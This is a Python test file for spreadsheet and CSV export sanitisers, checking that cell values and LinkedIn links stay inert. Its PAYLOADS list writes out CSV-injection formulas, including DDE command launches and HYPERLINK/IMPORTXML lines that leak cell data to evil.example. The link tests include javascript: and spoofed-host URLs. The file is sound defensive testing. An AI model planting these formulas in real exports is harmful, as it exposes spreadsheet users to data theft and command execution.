"""Hostile text must stay text: pipeline.export.cells."""

from __future__ import annotations

import datetime as dt
import io

import numpy as np
import pandas as pd
import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipeline.export.cells import (
    EXCEL_CELL_LIMIT,
    TRUNCATION_MARKER,
    cell_value,
    safe_column,
    safe_csv_text,
    safe_link,
    safe_text,
    write_cell,
)
from pipeline.export.csv_fields import safe_csv_column

#: Classic OWASP CSV-injection payloads and friends; every one must stay inert.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    " =1",
    "  @SUM(1+1)",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "-5 years",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "+cmd|' /C notepad'!'A1'",
    "#N/A",
    "#DIV/0!",
]

TRIGGERED_IN_CSV = [p for p in PAYLOADS if not p.startswith("#")]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_keeps_payload_text_except_carriage_returns(payload: str) -> None:
    assert safe_text(payload) == payload.replace("\r", "\n")


def written(*rows: list[object], constant_memory: bool = False) -> list[list[tuple]]:
    """Write ``rows`` with write_cell into a fresh XlsxWriter workbook (default options: text
    starting with "=" would be a formula there) and read (value, data_type) back."""
    buffer = io.BytesIO()
    options = {"constant_memory": constant_memory, "default_date_format": "yyyy-mm-dd"}
    book = xlsxwriter.Workbook(buffer, options)
    ws = book.add_worksheet()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            write_cell(ws, r, c, value)
    book.close()
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("constant_memory", [False, True])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_write_cell_stores_payload_as_a_string_never_a_formula(
    payload: str, constant_memory: bool
) -> None:
    back = written(["Ada", payload], [payload, 0.5], constant_memory=constant_memory)
    text = payload.replace("\r", "\n")
    assert back == [[("Ada", "s"), (text, "s")], [(text, "s"), (0.5, "n")]]


def test_write_cell_keeps_a_note_of_excels_full_length() -> None:
    note = "n" * (EXCEL_CELL_LIMIT - 1) + "é"
    assert written([note]) == [[(note, "s")]]


@pytest.mark.parametrize("payload", TRIGGERED_IN_CSV)
def test_csv_guards_every_trigger_with_a_quote(payload: str) -> None:
    guarded = safe_csv_text(payload)
    assert guarded == "'" + payload.replace("\r", "\n")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Data Scientist", "Data Scientist"),
        ("a=b", "a=b"),
        ("Jane - Acme", "Jane - Acme"),
        ("＝1+1", "'＝1+1"),  # full-width equals: some East Asian Excel builds evaluate it
        (-5, "-5"),  # a real number is not a formula
        (0.25, "0.25"),
        (True, "TRUE"),
        (None, ""),
        (float("nan"), ""),
        (pd.NA, ""),
        (dt.date(2024, 3, 1), "2024-03-01"),
    ],
)
def test_safe_csv_text_table(value: object, expected: str) -> None:
    assert safe_csv_text(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        (float("nan"), None),
        (np.nan, None),
        (pd.NA, None),
        (pd.NaT, None),
        ("", None),
        ("   ", None),
        ("\x00\x01", None),
        ("Ada\x00 Park\x1f", "Ada Park"),
        ("tab\tand\nnewline", "tab\tand\nnewline"),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("bad \ud800 surrogate", "bad  surrogate"),
        ("no\ufffe\uffffchar", "nochar"),
        ("  José Núñez ", "  José Núñez "),
        (12, "12"),
    ],
)
def test_safe_text_table(value: object, expected: str | None) -> None:
    assert safe_text(value) == expected


def test_safe_text_cuts_long_text_with_a_visible_marker() -> None:
    cut = safe_text("x" * 40_000)
    assert cut is not None
    assert len(cut) == EXCEL_CELL_LIMIT
    assert cut.endswith(TRUNCATION_MARKER)
    assert safe_text("abcdefghij", max_len=8) == "abcd" + TRUNCATION_MARKER
    assert safe_text("x" * 32_009) == "x" * 32_009  # Excel allows 32,767: no cut below it
    assert safe_text("x" * EXCEL_CELL_LIMIT) == "x" * EXCEL_CELL_LIMIT


def test_safe_text_never_exceeds_excel_limit_even_with_max_len_above_it() -> None:
    cut = safe_text("y" * 50_000, max_len=100_000)
    assert cut is not None
    assert len(cut) == 32_767


def test_safe_text_counts_emoji_as_two_units_and_never_splits_one() -> None:
    cut = safe_text("😀" * 10, max_len=8)  # 20 UTF-16 units
    assert cut == "😀" * 2 + TRUNCATION_MARKER
    assert safe_text("😀" * 4, max_len=8) == "😀" * 4


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://www.linkedin.com/in/ada-park", "https://www.linkedin.com/in/ada-park"),
        ("https://www.linkedin.com/in/ada-park/", "https://www.linkedin.com/in/ada-park"),
        ("https://linkedin.com/in/ada-park", "https://www.linkedin.com/in/ada-park"),
        ("https://ca.linkedin.com/in/ada-park", "https://www.linkedin.com/in/ada-park"),
        ("HTTPS://WWW.LinkedIn.com/in/Ada-Park", "https://www.linkedin.com/in/ada-park"),
        ("https://www.linkedin.com/in/jos%C3%A9-n", "https://www.linkedin.com/in/jos%C3%A9-n"),
        (" https://www.linkedin.com/in/ada-park ", "https://www.linkedin.com/in/ada-park"),
        ("javascript:alert(1)", None),
        ("javascript://www.linkedin.com/in/x%0aalert(1)", None),
        ("http://www.linkedin.com/in/ada-park", None),
        ("http://evil.com/in/x", None),
        ("https://evil.com/in/x", None),
        ("https://linkedin.com.evil.com/in/x", None),
        ("https://evillinkedin.com/in/x", None),
        ("https://user:pw@www.linkedin.com/in/x", None),
        ("https://www.linkedin.com@evil.com/in/x", None),
        ("https://www.linkedin.com:8443/in/x", None),
        ("https://a.b.linkedin.com/in/x", None),
        ("https://www.linkedin.com/company/acme", None),
        ("https://www.linkedin.com/in/", None),
        ("https://www.linkedin.com/in/x/details", None),
        ("https://www.linkedin.com/in/x?trk=1", None),
        ("https://www.linkedin.com/in/x#top", None),
        ("https://www.linkedin.com/in/a%2Fb", None),  # encoded slash
        ("https://www.linkedin.com/in/a%00b", None),
        ("https://www.linkedin.com/in/%ff", None),  # not UTF-8
        ("\thttps://www.linkedin.com/in/x", None),
        ("https://www.linkedin.com/in/x\n", None),
        ("https://www.lin\u212aedin.com/in/x", None),  # Kelvin sign posing as "k"
        ('=HYPERLINK("https://www.linkedin.com/in/x")', None),
        (None, None),
        (float("nan"), None),
    ],
)
def test_safe_link_table(url: object, expected: str | None) -> None:
    assert safe_link(url) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (np.int64(3), 3),
        (np.float64(0.5), 0.5),
        (np.bool_(True), True),
        (float("inf"), None),
        (float("-inf"), None),
        (pd.NaT, None),
        (np.datetime64("NaT"), None),
        (pd.Timestamp("2024-05-01 09:30"), dt.datetime(2024, 5, 1, 9, 30)),
        (pd.Timestamp("2024-05-01 09:30", tz="America/Toronto"), dt.datetime(2024, 5, 1, 9, 30)),
        (np.datetime64("2024-05-01"), dt.datetime(2024, 5, 1)),
        (dt.date(2024, 5, 1), dt.date(2024, 5, 1)),
        ("=1+1", "=1+1"),
        (["a", "b"], "['a', 'b']"),
    ],
)
def test_cell_value_table(value: object, expected: object) -> None:
    result = cell_value(value)
    assert result == expected
    assert type(result) is type(expected)


def test_cell_value_keeps_types_the_writer_can_write() -> None:
    values = [np.int64(3), np.float64(0.5), True, pd.Timestamp("2024-05-01", tz="UTC"), "=1"]
    back = written(values)[0]
    assert [t for _, t in back] == ["n", "n", "b", "d", "s"]
    assert back[3][0] == dt.datetime(2024, 5, 1)


def test_safe_column_maps_each_value_and_handles_unhashable() -> None:
    column = pd.Series(["=1", "=1", None, 2.0], dtype="object")
    assert safe_column(column) == ["=1", "=1", None, 2.0]
    assert safe_column([["x"], {"a": 1}]) == ["['x']", "{'a': 1}"]
    mixed = safe_column([1, True, 1.0, np.int64(1)])
    assert [type(v) for v in mixed] == [int, bool, float, int]


@given(
    st.lists(st.one_of(st.none(), st.text(), st.sampled_from(PAYLOADS), st.just("  ")), max_size=30)
)
def test_safe_csv_column_is_safe_csv_text_on_each_text(values: list[str | None]) -> None:
    assert safe_csv_column(pd.Series(values, dtype=object)) == [safe_csv_text(v) for v in values]


@pytest.mark.parametrize(
    "values",
    [
        pd.Series([1.5, float("nan"), float("inf"), -2.0]),
        pd.array([3, None, -4], dtype="Int64"),
        pd.Series([True, False]),
        pd.Series([1, "a", None, dt.date(2024, 1, 2)], dtype=object),
    ],
)
def test_safe_csv_column_on_numbers_and_mixed(values: object) -> None:
    series = pd.Series(values)
    assert safe_csv_column(series) == [safe_csv_text(v) for v in series.tolist()]
